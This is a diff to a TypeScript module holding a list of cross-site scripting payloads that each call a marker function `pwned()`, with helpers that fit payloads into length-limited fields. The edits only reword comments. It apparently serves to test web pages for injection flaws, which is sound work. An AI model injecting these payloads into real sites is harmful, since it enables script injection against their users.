@@ -1,4 +1,4 @@
-/** Sixty texts that each call `pwned()` where a page takes a part of them for markup, script, style or an address. */
+/** Sixty texts that each call `pwned()` when a page interprets them as markup, script, style or an address. */
 export const PAYLOADS: readonly string[] = [
   '<script>pwned()</script>',
   '<svg onload=pwned()>',
@@ -62,16 +62,16 @@ export const PAYLOADS: readonly string[] = [
   '<template shadowrootmode=open><svg onload=pwned()></template>',
 ];
 
-/** The shortest that still runs, for fields of few characters. */
+/** The shortest payload that still runs, for short fields. */
 const SHORTEST = '<svg onload=pwned()>';
 
-/** The nth payload, or the shortest where a field does not take it. */
+/** The nth payload, or the shortest when the field is too short for it. */
 export function payloadFor(nth: number, max: number): string {
   const payload = PAYLOADS[nth % PAYLOADS.length] ?? SHORTEST;
   return payload.length <= max ? payload : SHORTEST;
 }
 
-/** As many payloads from the nth on as a field takes, at most `count`, a line each. */
+/** As many payloads from the nth on as fit into a field, at most `count`, one a line. */
 export function packed(nth: number, count: number, max: number): string {
   let text = '';
   for (let at = 0; at < count; at += 1) {
